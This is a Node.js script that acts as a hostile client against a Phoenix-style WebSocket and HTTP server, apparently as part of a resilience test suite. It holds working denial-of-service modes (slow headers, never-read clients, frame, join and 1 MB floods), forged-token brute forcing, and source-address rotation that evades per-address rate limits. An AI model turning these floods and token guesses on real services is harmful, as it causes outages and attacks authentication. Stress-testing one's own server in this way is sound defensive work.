#!/usr/bin/env node
// SPDX-License-Identifier: Apache-2.0
// attack.mjs KIND URL TOKEN: a hostile client, until it is ended. "ready" when it is at work; what was done
// to it on standard error, when it ends.
import crypto from 'node:crypto';
import net from 'node:net';

const [kind, url, token] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const told = {};
const count = (what, n = 1) => (told[what] = (told[what] ?? 0) + n);
const later = (ms) => new Promise((done) => setTimeout(done, ms));

/* From many addresses: one alone could be limited by where it comes from. */
let opened = 0;
function open(bytes) {
    const socket = net.connect({ host: hostname, port: Number(port), localAddress: `127.0.${1 + (opened >> 7) % 200}.${1 + opened++ % 127}` });
    socket.on('error', () => count('errors'));
    socket.on('close', () => count('closed'));
    socket.write(bytes);
    return socket;
}

function frame(opcode, text) {
    const data = Buffer.from(text), more = data.length < 126 ? 0 : data.length < 65536 ? 2 : 8, head = Buffer.alloc(6 + more);
    head[0] = 0x80 | opcode;
    head[1] = 0x80 | (more === 0 ? data.length : more === 2 ? 126 : 127);
    if (more === 2) head.writeUInt16BE(data.length, 2);
    if (more === 8) head.writeBigUInt64BE(BigInt(data.length), 2);
    return Buffer.concat([head, data]); // a mask of zeroes
}
const handshake = (own = token) => `GET /socket/websocket?vsn=2.0.0&token=${own} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n` +
    `Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\n\r\n`;
const push = (ref, topic, event, payload = {}) => frame(1, JSON.stringify([ref, ref, topic, event, payload]));

/* Again and again from one connection, as fast as it is taken; a new one when it is closed. */
async function flood(make, wide) {
    const one = async () => {
        const socket = open(handshake());
        let gone = false;
        socket.on('close', () => (gone = true)).resume();
        while (!gone) {
            const bytes = make();
            count('written', bytes.n ?? 1);
            if (!socket.write(bytes)) await Promise.race([new Promise((done) => socket.once('drain', done)), later(1000)]);
            else await later(0);
        }
    };
    for (let i = 0; i < wide; i++) (async () => { for (;;) await one().then(() => later(10)); })();
}

const many = (n, one) => Object.assign(Buffer.concat(Array.from({ length: n }, (_, i) => one(i))), { n });

const kinds = {
    /* 10,000 requests whose headers come a byte a second. */
    async slow_headers() {
        const keep = (socket) => {
            const timer = setInterval(() => socket.write('a'), 1000);
            socket.on('close', () => { clearInterval(timer); setTimeout(() => keep(open('GET / HTTP/1.1\r\nX: ')), 100); });
        };
        for (let i = 0; i < 10000; i++) {
            keep(open('GET / HTTP/1.1\r\nX: '));
            if (i % 100 === 99) await later(5);
        }
    },
    /* 1,000 clients that ask, and never read. */
    async never_read() {
        for (let i = 0; i < 1000; i++) {
            const socket = open(handshake());
            socket.pause();
            let n = 0;
            setInterval(() => socket.writable && socket.write(many(20, () => push(`${++n}`, 'phoenix', 'heartbeat'))), 200);
            if (i % 50 === 49) await later(5);
        }
    },
    /* As many frames as one client can send. */
    async frames() {
        const beats = many(1000, (i) => push(`${i}`, 'phoenix', 'heartbeat'));
        await flood(() => beats, 1);
    },
    async joins() {
        let n = 0;
        await flood(() => many(100, () => push(`${++n}`, `presence:room${n % 5000}`, 'phx_join')), 4);
    },
    /* Messages of 1 MB, and bodies of 1 MB. */
    async megabytes() {
        const big = push('1', 'phoenix', 'heartbeat', { text: 'x'.repeat(1 << 20) });
        await flood(() => big, 4);
        const post = () => open(`POST /api/notifications HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${1 << 20}\r\n\r\n${'x'.repeat(1 << 20)}`)
            .on('close', () => setTimeout(post, 10)).resume();
        for (let i = 0; i < 4; i++) post();
    },
    /* Tokens that nobody signed, by both ways in. */
    async guesses() {
        const guess = () => `${token.split('.').slice(0, 2).join('.')}.${crypto.randomBytes(32).toString('base64url')}`;
        const once = () => open(handshake(guess())).on('data', () => count('answers')).on('close', () => setTimeout(once, 1)).setTimeout(1000, function late() { this.destroy(); });
        for (let i = 0; i < 16; i++) once();
        const asks = open('');
        asks.on('data', () => asks.write(Array.from({ length: 20 }, () => `GET /api/notifications/count HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${guess()}\r\n\r\n`).join('')));
        asks.write(`GET /api/notifications/count HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${guess()}\r\n\r\n`);
    },
};

process.on('SIGTERM', () => {
    console.error(`${kind}: ${JSON.stringify({ opened, ...told })}`);
    process.exit(0);
});
await kinds[kind]();
console.log('ready');
